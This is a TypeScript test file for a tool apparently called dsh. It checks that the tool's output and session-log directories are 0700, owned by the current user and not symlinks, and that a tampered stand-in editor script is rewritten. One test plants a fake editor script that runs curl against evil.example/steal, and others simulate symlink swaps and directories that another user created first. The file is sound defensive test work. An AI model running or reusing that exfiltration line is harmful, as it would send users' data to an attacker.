/**
 * Owner checks for the directories dsh makes or reuses (issue 19, item 9): the output root, its
 * run, spill and bin directories, the session log root and its day and session directories are
 * 0700, this user's and not symbolic links; a root of ours that is open wider is tightened; one
 * that is another user's, a symlink or not a directory is refused with UNSAFE_DIRECTORY. The
 * stand-in editor exists as soon as the output store does, and a tampered one is replaced.
 */
import { spawnSync } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  unlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { NO_EDITOR_SCRIPT, noEditorCommand } from '@dsh/bash-local';
import { isDshError } from '@dsh/core';
import { compose, ensurePrivateDir, SessionLog, UNSAFE_DIRECTORY } from 'dsh';
import { describe, expect, it, vi } from 'vitest';
import { codeOfSync, tempDir } from '../../../test/support.js';
import { OutputStore } from '../src/output-store.js';

const mode = (path: string): number => lstatSync(path).mode & 0o777;
const OTHER_UID = 65534; // nobody
const asRoot = process.getuid?.() === 0;
const start = { preset: 'base', workspace: '/', sandbox: 'danger-full-access', version: 'test' };
const options = { keep: false, maxBytes: 1 << 20 };

/** A fresh copy of the session log module, whose default root is under `home`. */
async function sessionLogModuleWithHome(home: string): Promise<typeof import('../src/log/session-log.js')> {
  const saved = process.env.HOME;
  process.env.HOME = home;
  try {
    vi.resetModules();
    return await import('../src/log/session-log.js');
  } finally {
    process.env.HOME = saved;
  }
}

/** The DshError a synchronous call throws, or a failure. */
function refusal(call: () => unknown): { code: string; message: string; data: Record<string, unknown> } {
  try {
    call();
  } catch (error) {
    // by shape, not instanceof: a module loaded afresh (vi.resetModules) has its own DshError class
    const e = error as { name?: string; code?: string; message: string; data?: Record<string, unknown> };
    if (e.name === 'DshError' && e.code) return { code: e.code, message: e.message, data: { ...e.data } };
    throw error;
  }
  throw new Error('expected a refusal');
}

/** A directory of another user, open to all (what the attacker made first). */
function othersDir(parent: string, name: string): string {
  const dir = join(parent, name);
  mkdirSync(dir);
  chmodSync(dir, 0o777);
  chownSync(dir, OTHER_UID, OTHER_UID);
  return dir;
}

describe('ensurePrivateDir', () => {
  it('makes missing directories 0700, each parent it makes too', () => {
    const base = tempDir();
    const deep = join(base, 'a', 'b', 'c');
    ensurePrivateDir(deep);
    for (const dir of [join(base, 'a'), join(base, 'a', 'b'), deep]) expect(mode(dir), dir).toBe(0o700);
  });

  it('tightens a directory of ours that is open wider to 0700', () => {
    const dir = join(tempDir(), 'wide');
    mkdirSync(dir);
    chmodSync(dir, 0o777);
    ensurePrivateDir(dir);
    expect(mode(dir)).toBe(0o700);
  });

  it('refuses a symbolic link, even to a private directory of ours, and says what to do', () => {
    const base = tempDir();
    mkdirSync(join(base, 'real'), { mode: 0o700 });
    symlinkSync(join(base, 'real'), join(base, 'link'));
    const r = refusal(() => ensurePrivateDir(join(base, 'link'), { what: 'The output directory', remedy: 'choose X' }));
    expect(r.code).toBe(UNSAFE_DIRECTORY);
    expect(r.data).toMatchObject({ path: join(base, 'link'), reason: 'symlink' });
    expect(r.message).toMatch(/^The output directory .*link is a symbolic link.*; remove it, or choose X\.$/);
  });

  it('refuses a file where a directory should be', () => {
    const file = join(tempDir(), 'file');
    writeFileSync(file, 'x');
    expect(refusal(() => ensurePrivateDir(file)).data).toMatchObject({ reason: 'not_directory' });
  });

  it.skipIf(!asRoot)("refuses another user's directory, and leaves it as it was", () => {
    const dir = othersDir(tempDir(), 'dsh-victim');
    const r = refusal(() => ensurePrivateDir(dir));
    expect(r.code).toBe(UNSAFE_DIRECTORY);
    expect(r.data).toMatchObject({ reason: 'not_owner', owner: OTHER_UID, uid: 0 });
    expect(r.message).toMatch(/is owned by uid 65534, not by this user \(uid 0\)/);
    expect(mode(dir)).toBe(0o777);
  });
});

describe('the output store', () => {
  it('makes the root, run, spill and bin directories 0700 and the stand-in editor at once', () => {
    const root = join(tempDir(), 'dsh-me');
    const store = new OutputStore(root, options);
    try {
      expect(dirname(store.dir)).toBe(root);
      for (const dir of [root, store.dir, store.spillDir, join(store.dir, 'bin')]) expect(mode(dir), dir).toBe(0o700);
      expect(store.editor).toBe(join(store.dir, 'bin', 'dsh-no-editor'));
      expect(readFileSync(store.editor, 'utf8')).toBe(NO_EDITOR_SCRIPT);
      expect(mode(store.editor)).toBe(0o700);
      const ran = spawnSync(store.editor, [], { encoding: 'utf8' });
      expect(ran.status).toBe(1);
      expect(ran.stderr).toMatch(/no editor can run in a one-shot command/);
    } finally {
      store.dispose();
    }
    expect(existsSync(store.dir)).toBe(false);
  });

  it('tightens a 0777 root of ours to 0700', () => {
    const root = join(tempDir(), 'dsh-me');
    mkdirSync(root);
    chmodSync(root, 0o777);
    const store = new OutputStore(root, options);
    store.dispose();
    expect(mode(root)).toBe(0o700);
  });

  it('refuses a root that is a symbolic link, making nothing there', () => {
    const base = tempDir();
    mkdirSync(join(base, 'elsewhere'), { mode: 0o700 });
    symlinkSync(join(base, 'elsewhere'), join(base, 'root'));
    const r = refusal(() => new OutputStore(join(base, 'root'), options));
    expect(r.code).toBe(UNSAFE_DIRECTORY);
    expect(r.data).toMatchObject({ reason: 'symlink' });
    expect(r.message).toMatch(/choose another with config\.output\.dir/);
    expect(readdirSync(join(base, 'elsewhere'))).toEqual([]);
  });

  it.skipIf(!asRoot)('refuses a root another user made first (0777), and does not sweep or write in it', () => {
    const root = othersDir(tempDir(), 'dsh-victim');
    const dead = join(root, `run-${2 ** 22 + 7}-deadbeef`);
    mkdirSync(dead);
    const r = refusal(() => new OutputStore(root, options));
    expect(r.code).toBe(UNSAFE_DIRECTORY);
    expect(r.data).toMatchObject({ path: root, reason: 'not_owner', owner: OTHER_UID });
    expect(readdirSync(root)).toEqual([`run-${2 ** 22 + 7}-deadbeef`]);
  });

  it('compose refuses an unsafe config.output.dir with UNSAFE_DIRECTORY', async () => {
    const base = tempDir();
    mkdirSync(join(base, 'real'), { mode: 0o700 });
    symlinkSync(join(base, 'real'), join(base, 'out'));
    const error = await compose({ config: { output: { dir: join(base, 'out') } } }).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: UNSAFE_DIRECTORY, data: { reason: 'symlink' } });
  });
});

describe('the stand-in editor', () => {
  it('is rewritten when its content was changed', () => {
    const store = new OutputStore(join(tempDir(), 'dsh-me'), options);
    try {
      writeFileSync(store.editor, '#!/bin/sh\ncurl https://evil.example/steal\n');
      expect(noEditorCommand(dirname(store.editor))).toBe(store.editor);
      expect(readFileSync(store.editor, 'utf8')).toBe(NO_EDITOR_SCRIPT);
      expect(mode(store.editor)).toBe(0o700);
    } finally {
      store.dispose();
    }
  });

  it('is rewritten when it was swapped for a symbolic link, and the link target is left alone', () => {
    const base = tempDir();
    const store = new OutputStore(join(base, 'dsh-me'), options);
    try {
      const target = join(base, 'theirs');
      writeFileSync(target, NO_EDITOR_SCRIPT, { mode: 0o700 }); // even the right script behind a link
      unlinkSync(store.editor);
      symlinkSync(target, store.editor);
      expect(noEditorCommand(dirname(store.editor))).toBe(store.editor);
      expect(lstatSync(store.editor).isFile()).toBe(true);
      expect(readFileSync(store.editor, 'utf8')).toBe(NO_EDITOR_SCRIPT);
      expect(readFileSync(target, 'utf8')).toBe(NO_EDITOR_SCRIPT);
    } finally {
      store.dispose();
    }
  });

  it('is rewritten when it is not executable only by its owner', () => {
    const store = new OutputStore(join(tempDir(), 'dsh-me'), options);
    try {
      chmodSync(store.editor, 0o777);
      expect(noEditorCommand(dirname(store.editor))).toBe(store.editor);
      expect(mode(store.editor)).toBe(0o700);
    } finally {
      store.dispose();
    }
  });

  it.skipIf(!asRoot)("is rewritten when it is another user's file, even with the right script", () => {
    const store = new OutputStore(join(tempDir(), 'dsh-me'), options);
    try {
      chownSync(store.editor, OTHER_UID, OTHER_UID);
      expect(noEditorCommand(dirname(store.editor))).toBe(store.editor);
      expect(statSync(store.editor).uid).toBe(0);
    } finally {
      store.dispose();
    }
  });

  it('is reused, not rewritten, when it is intact', () => {
    const store = new OutputStore(join(tempDir(), 'dsh-me'), options);
    try {
      const before = statSync(store.editor).ino;
      expect(noEditorCommand(dirname(store.editor))).toBe(store.editor);
      expect(statSync(store.editor).ino).toBe(before);
    } finally {
      store.dispose();
    }
  });

  it.skipIf(!asRoot)("is not written into another user's directory", () => {
    const bin = othersDir(tempDir(), 'bin');
    expect(noEditorCommand(bin)).toBe('false');
    expect(readdirSync(bin)).toEqual([]);
  });
});

describe('the session log directories', () => {
  it('are 0700: a 0777 root of ours is tightened, the day and session directories are made private', async () => {
    const root = join(tempDir(), 'logs');
    mkdirSync(root);
    chmodSync(root, 0o777);
    const log = SessionLog.open(root, start);
    try {
      expect(mode(root)).toBe(0o700);
      expect(mode(dirname(log.dir))).toBe(0o700);
      expect(mode(log.dir)).toBe(0o700);
    } finally {
      await log.close();
    }
  });

  it('refuse a root that is a symbolic link', () => {
    const base = tempDir();
    mkdirSync(join(base, 'real'), { mode: 0o700 });
    symlinkSync(join(base, 'real'), join(base, 'logs'));
    const r = refusal(() => SessionLog.open(join(base, 'logs'), start));
    expect(r.code).toBe(UNSAFE_DIRECTORY);
    expect(r.message).toMatch(/^The session log directory .* is a symbolic link.*--log-dir/);
    expect(readdirSync(join(base, 'real'))).toEqual([]);
  });

  it('refuse a day directory swapped for a symbolic link, and retention does not sweep through it', () => {
    const base = tempDir();
    const root = join(base, 'logs');
    mkdirSync(root, { mode: 0o700 });
    mkdirSync(join(base, 'elsewhere', 'old-session'), { recursive: true, mode: 0o700 });
    const day = join(root, new Date().toISOString().slice(0, 10));
    symlinkSync(join(base, 'elsewhere'), day);
    const long = Date.now() - 365 * 24 * 3600_000; // past retention: a sweep through the link would remove it
    utimesSync(join(base, 'elsewhere', 'old-session'), long / 1000, long / 1000);
    expect(codeOfSync(() => SessionLog.open(root, start))).toBe(UNSAFE_DIRECTORY);
    expect(readdirSync(join(base, 'elsewhere'))).toEqual(['old-session']);
    expect(lstatSync(day).isSymbolicLink()).toBe(true);
  });

  it.skipIf(!asRoot)('refuse a root another user made', () => {
    const root = othersDir(tempDir(), 'logs');
    const r = refusal(() => SessionLog.open(root, start));
    expect(r.data).toMatchObject({ reason: 'not_owner', owner: OTHER_UID });
    expect(readdirSync(root)).toEqual([]);
  });

  it('compose refuses a session log directory that is a symlink with UNSAFE_DIRECTORY itself', async () => {
    const base = tempDir();
    mkdirSync(join(base, 'real'), { mode: 0o700 });
    symlinkSync(join(base, 'real'), join(base, 'logs'));
    const error = await compose({ config: { sessionLog: { dir: join(base, 'logs') } } }).catch((e: unknown) => e);
    expect(isDshError(error, UNSAFE_DIRECTORY)).toBe(true);
  });

  it('the default root: ~/.dsh is tightened to 0700 and ~/.dsh/sessions made 0700; a ~/.dsh symlink is refused', async () => {
    const home = tempDir('dsh-home-');
    mkdirSync(join(home, '.dsh'));
    chmodSync(join(home, '.dsh'), 0o755);
    const m = await sessionLogModuleWithHome(home);
    expect(m.DEFAULT_SESSION_ROOT).toBe(join(home, '.dsh', 'sessions'));
    await m.SessionLog.open(m.DEFAULT_SESSION_ROOT, start).close();
    expect(mode(join(home, '.dsh'))).toBe(0o700);
    expect(mode(join(home, '.dsh', 'sessions'))).toBe(0o700);

    const home2 = tempDir('dsh-home-');
    mkdirSync(join(home2, 'real'), { mode: 0o700 });
    symlinkSync(join(home2, 'real'), join(home2, '.dsh'));
    const m2 = await sessionLogModuleWithHome(home2);
    const r = refusal(() => m2.SessionLog.open(m2.DEFAULT_SESSION_ROOT, start));
    expect(r.data).toMatchObject({ path: join(home2, '.dsh'), reason: 'symlink' });
    expect(readdirSync(join(home2, 'real'))).toEqual([]);
  });
});
